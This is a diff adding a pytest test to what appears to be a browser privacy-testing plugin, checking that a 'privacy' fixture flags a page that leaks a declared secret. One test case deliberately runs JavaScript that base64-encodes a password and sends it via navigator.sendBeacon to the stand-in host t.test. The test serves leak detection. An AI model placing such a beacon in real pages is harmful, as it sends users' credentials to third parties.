@@ -71,3 +71,31 @@ def test_python_scenario_uses_tracked_page_and_capture(project: pytest.Pytester)
         "--browser", "chromium", "--telltale-site", str(project.path / "scenarios" / "site"), "-p", "no:cacheprovider"
     )
     result.assert_outcomes(passed=1)
+
+
+def test_privacy_fixture_fails_a_test_whose_page_leaks(project: pytest.Pytester) -> None:
+    project.makepyfile(
+        test_leak="""
+        import base64
+
+        SECRET = "Correct-Horse-Battery-9"
+
+        def test_clean_page_passes(tracked_page, capture, privacy):
+            tracked_page.goto("https://shop.test/login.html")
+            tracked_page.fill("#password", SECRET)
+            capture.settle()
+            privacy.check(sensitive=[SECRET])
+
+        def test_leaking_page_fails(tracked_page, capture, privacy):
+            tracked_page.goto("https://shop.test/login.html")
+            tracked_page.evaluate("v => navigator.sendBeacon('https://t.test/c', btoa(JSON.stringify({v})))", SECRET)
+            capture.settle()
+            privacy.check(sensitive=[SECRET])
+        """
+    )
+    result = project.runpytest_subprocess(
+        "--browser", "chromium", "--telltale-site", str(project.path / "scenarios" / "site"), "-p", "no:cacheprovider"
+    )
+    result.assert_outcomes(passed=1, failed=1)
+    result.stdout.fnmatch_lines(["*never-sent: value 1 (text; declared sensitive by the test) left via beacon [[]base64, exact] to https://t.test/c*"])
+    assert "Correct-Horse-Battery-9" not in result.stdout.str().replace('SECRET = "Correct-Horse-Battery-9"', "")
